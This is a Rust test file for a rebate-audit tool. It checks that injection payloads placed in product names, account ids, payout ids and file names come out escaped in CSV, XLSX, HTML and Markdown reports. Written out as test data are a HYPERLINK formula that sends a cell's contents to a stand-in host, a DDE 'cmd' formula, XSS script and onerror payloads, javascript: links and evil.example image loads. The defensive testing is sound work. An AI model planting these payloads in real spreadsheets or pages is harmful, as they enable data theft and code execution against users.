//! Formula, HTML and Markdown injection payloads come out inert in every report.

use super::*;

/// Payloads of research R1–R3 that the injection fixtures put in product names,
/// account ids, payout ids and contract ids.
const PAYLOADS: [&str; 9] = [
    "=HYPERLINK(\"http://x/?\"&A1)",
    "@SUM(1+1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "a|b`c`![x](http://evil.example/x.png)",
];

fn injection_run(fixture: &Fixture) -> Limited {
    let contracts = Book::standard().write_csv_folder(fixture.dir.path(), "contracts");
    run_limited(
        fixture,
        &[
            "run".into(),
            "--contracts".into(),
            contracts.into(),
            "--billing".into(),
            corpus("injection-billing.csv").into(),
            "--payouts".into(),
            corpus("injection-payouts.csv").into(),
            "--as-of".into(),
            "2025-06-30".into(),
        ],
    )
}

/// A text cell a spreadsheet would run as a formula.
fn formula_like(text: &str) -> bool {
    let trimmed = text.trim_start_matches([' ', '"']);
    text.starts_with(['\t', '\r', '\n', '\0'])
        || trimmed.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn injection_payloads_are_inert_in_the_csv_xlsx_and_html_reports() {
    let fixture = Fixture::new();
    let run = injection_run(&fixture);
    assert_eq!(run.status, 1, "{}", run.stderr);
    let json = run.json();
    let findings = json["findings"].as_array().unwrap();
    // Each payload is a product, an account and a payout naming a contract.
    for (kind, count) in [
        ("unknown_product", 9),
        ("uncovered_billing", 9),
        ("unmatched_payout", 9),
    ] {
        let found = findings
            .iter()
            .filter(|finding| finding["type"] == kind)
            .count();
        assert_eq!(found, count, "{kind}");
    }
    // findings.json keeps the raw values.
    let raw = serde_json::to_string(&json).unwrap();
    for payload in PAYLOADS {
        let quoted = serde_json::to_string(payload.trim()).unwrap();
        assert!(
            raw.contains(&quoted[1..quoted.len() - 1]),
            "{payload:?} kept raw in findings.json"
        );
    }
    // findings.csv: no field a spreadsheet would run.
    let csv_bytes = std::fs::read(run.out.join("findings.csv")).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(&csv_bytes[3..]);
    let mut fields = 0;
    for record in reader.records() {
        for field in record.unwrap().iter() {
            fields += 1;
            // Money and counts are plain numbers (`-1.80`), never text.
            let number = field.parse::<f64>().is_ok();
            assert!(
                number || !formula_like(field),
                "findings.csv field {field:?}"
            );
        }
    }
    assert!(fields > 27 * 10);
    // The workbooks: no formula cell, no text cell a spreadsheet would run.
    for name in ["findings.xlsx", "report.xlsx"] {
        use calamine::{Data, Reader, open_workbook};
        let mut workbook: calamine::Xlsx<_> = open_workbook(run.out.join(name)).unwrap();
        for sheet in workbook.sheet_names() {
            let formulas = workbook.worksheet_formula(&sheet).unwrap();
            assert!(
                formulas
                    .used_cells()
                    .all(|(_, _, formula)| formula.is_empty()),
                "{name}:{sheet} holds a formula"
            );
            for (row, column, cell) in workbook.worksheet_range(&sheet).unwrap().used_cells() {
                if let Data::String(text) = cell {
                    assert!(
                        !formula_like(text),
                        "{name}:{sheet}:{row}:{column} {text:?}"
                    );
                }
            }
        }
    }
    // The pages: escaped markup, a Content-Security-Policy, nothing loaded.
    for name in ["report.html", "summary.html"] {
        let page = std::fs::read_to_string(run.out.join(name)).unwrap();
        assert!(!page.contains("<script>alert"), "{name}");
        assert!(!page.contains("<img"), "{name}");
        assert!(
            page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
            "{name}"
        );
        assert!(!page.contains("src=\"http"), "{name}");
    }
    let report = std::fs::read_to_string(run.out.join("report.html")).unwrap();
    assert!(report.contains("Content-Security-Policy"));
}

/// Text that must never come out as markup: what the Markdown reports leave of the
/// payloads, checked as a CommonMark/GFM renderer would read the file (research R3).
fn assert_markdown_inert(name: &str, text: &str) {
    // No raw HTML, autolink or comment: we write no `<` of our own, and input's are `&lt;`.
    for (at, _) in text.match_indices('<') {
        let next = text[at + 1..].chars().next();
        assert!(
            !next.is_some_and(|next| next.is_ascii_alphabetic() || "/!?".contains(next)),
            "{name}: raw markup at {:?}",
            &text[at..text.len().min(at + 40)]
        );
    }
    assert!(!text.contains("<script"), "{name}: raw <script");
    assert!(!text.contains("<img"), "{name}: raw <img");
    // No terminal control sequence in what `explain` prints or a viewer shows.
    assert!(
        !text
            .chars()
            .any(|character| character.is_control() && character != '\n'),
        "{name}: a control character"
    );
    for (number, line) in text.lines().enumerate() {
        let place = format!("{name}:{}: {line}", number + 1);
        // Read each line as a renderer does: a backslash escapes the next character.
        let mut chars = line.chars().peekable();
        let (mut pipes, mut backticks) = (0, Vec::new());
        let mut plain = String::new();
        while let Some(character) = chars.next() {
            match character {
                '\\' => {
                    chars.next();
                }
                // We write no `]`: a bare one could close a link or an image.
                ']' => panic!("{place}: an unescaped `]` (a link or image)"),
                '|' => pipes += 1,
                '`' => backticks.push(plain.len()),
                _ => {}
            }
            plain.push(character);
        }
        assert!(!plain.contains("!["), "{place}: an image");
        // Code spans are only ours: around finding ids.
        for pair in backticks.chunks(2) {
            let [open, close] = pair else {
                panic!("{place}: an unpaired backtick")
            };
            let inside = &plain[open + 1..*close];
            let id = inside.split_once('-').is_some_and(|(kind, hash)| {
                kind.chars().all(|c| c.is_ascii_lowercase() || c == '_')
                    && hash.len() == 12
                    && hash.chars().all(|c| c.is_ascii_hexdigit())
            });
            assert!(id, "{place}: a code span around `{inside}`");
        }
        // A table row has as many cells as its table's header.
        if line.starts_with('|') {
            assert!(pipes >= 2, "{place}");
        }
        // Text after a line break in an input never starts a line (heading, quote,
        // list item, table row of its own).
        let start = line.trim_start_matches(['#', '>', '-', '|', '*', '+', ' ']);
        assert!(
            !start.starts_with("INJECTED") && !start.starts_with("&gt; INJECTED"),
            "{place}: an input's second line became a line of the report"
        );
        // Emphasis from the inputs stays literal.
        assert!(
            !line.contains("**bold**"),
            "{place}: emphasis from an input"
        );
    }
    // Each table keeps its shape: every row has the header's count of cell separators.
    let mut header_pipes: Option<usize> = None;
    for line in text.lines() {
        if !line.starts_with('|') {
            header_pipes = None;
            continue;
        }
        let mut count = 0;
        let mut chars = line.chars();
        while let Some(character) = chars.next() {
            match character {
                '\\' => {
                    chars.next();
                }
                '|' => count += 1,
                _ => {}
            }
        }
        match header_pipes {
            None => header_pipes = Some(count),
            Some(expected) => assert_eq!(count, expected, "{name}: a broken table row: {line}"),
        }
    }
}

/// Where research R3's payloads reach the Markdown reports beyond the injection fixtures:
/// a contract whose id, customer, agent, tax id, account and product names are payloads
/// (with line breaks, emphasis, code, a terminal escape), billed from a file and loaded from
/// a folder whose names are payloads, paid by a payout whose id has a line break and whose
/// invoice issuer is a payload (so an invoice check quotes it).
const EVIL_ID: &str = "C<script>alert(1)</script>|[x](javascript:alert(1))";

fn markdown_run(fixture: &Fixture) -> (Limited, String) {
    let account = "A<b>1|`x`";
    let product = "ECS ![x](http://evil.example/p.png) **bold**";
    let book = Book::default()
        .contract(
            common::contract(EVIL_ID)
                .set(
                    "customer",
                    "Acme\n# INJECTED heading\n<script>alert(2)</script>\u{1b}[2J",
                )
                .set(
                    "agent",
                    "\"><img src=x onerror=alert(1)> **bold** _em_ `code` ~~s~~ $x$",
                )
                .set("agent_tax_id", "[tax](javascript:alert(3))")
                .set("accounts", account)
                .set("invoice", "vat_special")
                .set("tax_rate", "6%"),
        )
        .tier(EVIL_ID, "0", "", "20%")
        .product(EVIL_ID, product, "0.5");
    let contracts = book.write_csv_folder(
        fixture.dir.path(),
        "contracts <img src=x onerror=alert(4)> ![c](http://evil.example/c.png)",
    );
    let billing = fixture.write(
        "bill <img src=x onerror=alert(5)> [x](javascript:alert(1)) |.csv",
        common::billing_csv(&[
            (account, "2025-01", product, "10000.00", "CNY"),
            (
                account,
                "2025-01",
                "line1\n# INJECTED product\n| a | b |\n> INJECTED quote",
                "5.00",
                "CNY",
            ),
        ]),
    );
    let payouts = fixture.write(
        "payouts.csv",
        common::payouts_csv(
            &[
                "payout_id",
                "contract_id",
                "paid_on",
                "amount",
                "invoice_no",
                "invoice_date",
                "invoice_amount",
                "invoice_tax_rate",
                "invoice_type",
                "invoice_issuer",
            ],
            &[&[
                "P<1>\n> INJECTED quote\n- INJECTED item",
                EVIL_ID,
                "2025-02-15",
                "100.00",
                "INV-<i>1</i>",
                "2025-02-15",
                "100.00",
                "6%",
                "vat_special",
                "<img src=x onerror=alert(6)>\n# INJECTED issuer",
            ]],
        ),
    );
    let inputs: Vec<OsString> = vec![
        "--contracts".into(),
        contracts.into(),
        "--billing".into(),
        billing.into(),
        "--payouts".into(),
        payouts.into(),
        "--as-of".into(),
        "2025-06-30".into(),
    ];
    let mut args: Vec<OsString> = vec!["run".into(), "--evidence".into()];
    args.extend(inputs.iter().cloned());
    let run = run_limited(fixture, &args);
    assert_eq!(run.status, 1, "{}", run.stderr);
    let explain = Command::new(env!("CARGO_BIN_EXE_rebate-audit"))
        .arg("explain")
        .arg("--contract")
        .arg(EVIL_ID)
        .args(&inputs)
        .env_remove("REBATE_AUDIT_LOG")
        .output()
        .expect("explain runs");
    assert_eq!(
        explain.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&explain.stderr)
    );
    (run, String::from_utf8(explain.stdout).unwrap())
}

/// Every Markdown file of a run: `summary.md`, `evidence/<contract>.md` and the packs'
/// `trail.md` (`packs/<contract>/trail.md`).
fn markdown_files(out: &Path) -> Vec<(String, String)> {
    let mut files = vec![out.join("summary.md")];
    for entry in std::fs::read_dir(out.join("evidence")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|extension| extension == "md") {
            files.push(path);
        }
    }
    for entry in std::fs::read_dir(out.join("packs")).into_iter().flatten() {
        let path = entry.unwrap().path();
        if path.join("trail.md").is_file() {
            files.push(path.join("trail.md"));
        }
    }
    files
        .into_iter()
        .map(|path| {
            (
                path.display().to_string(),
                std::fs::read_to_string(&path).unwrap(),
            )
        })
        .collect()
}

#[test]
fn injection_payloads_are_inert_in_the_markdown_reports() {
    // The corpus payloads, as products, accounts and payouts of the standard contract.
    let fixture = Fixture::new();
    let run = injection_run(&fixture);
    let files = markdown_files(&run.out);
    assert!(files.len() >= 2, "summary.md and evidence/C1.md");
    for (name, text) in &files {
        assert_markdown_inert(name, text);
    }
    let all: String = files.iter().map(|(_, text)| text.as_str()).collect();
    // Shown as the characters they are, not dropped.
    for shown in [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\"&gt;&lt;img src=x onerror=alert(1)&gt;",
        "a\\|b\\`c\\`!\\[x\\](http&#58;//evil.example/x.png)",
        // `&` before a letter could start an entity.
        "=HYPERLINK(\"http&#58;//x/?\"&amp;A1)",
    ] {
        assert!(all.contains(shown), "{shown} is not shown");
    }

    // Payloads in every other place that reaches a Markdown report, with line breaks.
    let fixture = Fixture::new();
    let (run, explain) = markdown_run(&fixture);
    let mut files = markdown_files(&run.out);
    let packs = files
        .iter()
        .filter(|(name, _)| name.ends_with("trail.md"))
        .count();
    assert_eq!(packs, 1, "one evidence pack: {files:?}");
    assert_eq!(
        &files
            .iter()
            .find(|(name, _)| name.ends_with("trail.md"))
            .unwrap()
            .1,
        &explain,
        "the pack's trail is what explain prints"
    );
    files.push(("explain".into(), explain));
    for (name, text) in &files {
        assert_markdown_inert(name, text);
    }
    let evidence = &files
        .iter()
        .find(|(name, _)| {
            name.ends_with(".md") && name.contains("evidence") && !name.ends_with("trail.md")
        })
        .unwrap()
        .1;
    let trail = &files.last().unwrap().1;
    for (text, shown) in [
        // The contract id, heading the files.
        (
            evidence,
            "# Evidence: contract C&lt;script&gt;alert(1)&lt;/script&gt;\\|\\[x\\](javascript:alert(1))\n",
        ),
        (
            trail,
            "# Contract C&lt;script&gt;alert(1)&lt;/script&gt;\\|\\[x\\](javascript:alert(1))\n",
        ),
        // Names with line breaks stay on their line; the terminal escape is shown.
        (
            evidence,
            "| customer | Acme # INJECTED heading &lt;script&gt;alert(2)&lt;/script&gt;\u{241b}\\[2J |",
        ),
        (
            trail,
            "Acme # INJECTED heading &lt;script&gt;alert(2)&lt;/script&gt;\u{241b}\\[2J / \"&gt;&lt;img",
        ),
        (
            evidence,
            "\\*\\*bold\\*\\* \\_em\\_ \\`code\\` \\~\\~s\\~\\~ \\$x\\$",
        ),
        (evidence, "| accounts | A&lt;b&gt;1\\|\\`x\\` |"),
        // The product of the products sheet and of the bill.
        (
            evidence,
            "| ECS !\\[x\\](http&#58;//evil.example/p.png) \\*\\*bold\\*\\* | 0.5 |",
        ),
        (
            trail,
            "| line1 # INJECTED product \\| a \\| b \\| &gt; INJECTED quote | 5.00 |",
        ),
        // File paths.
        (
            trail,
            "bill &lt;img src=x onerror=alert(5)&gt; \\[x\\](javascript:alert(1)) \\|.csv",
        ),
        (
            evidence,
            "contracts &lt;img src=x onerror=alert(4)&gt; !\\[c\\](http&#58;//evil.example/c.png)/contracts.csv",
        ),
        // The payout id with its line breaks, in the allocations.
        (
            trail,
            "payout P&lt;1&gt; &gt; INJECTED quote - INJECTED item received",
        ),
    ] {
        assert!(text.contains(shown), "{shown}\nnot in:\n{text}");
    }
    // An invoice check quoting the ledger's issuer and the contract's tax id.
    assert!(
        evidence.contains(
            "| invoice_issuer | \\[tax\\](javascript:alert(3)) | &lt;img src=x onerror=alert(6)&gt; # INJECTED issuer | **no** |"
        ),
        "{evidence}"
    );
    // summary.md names the contract, customer and agent.
    let summary = &files[0].1;
    assert!(
        summary.contains("| C&lt;script&gt;alert(1)&lt;/script&gt;\\|\\[x\\](javascript:alert(1)) | Acme # INJECTED heading"),
        "{summary}"
    );
}
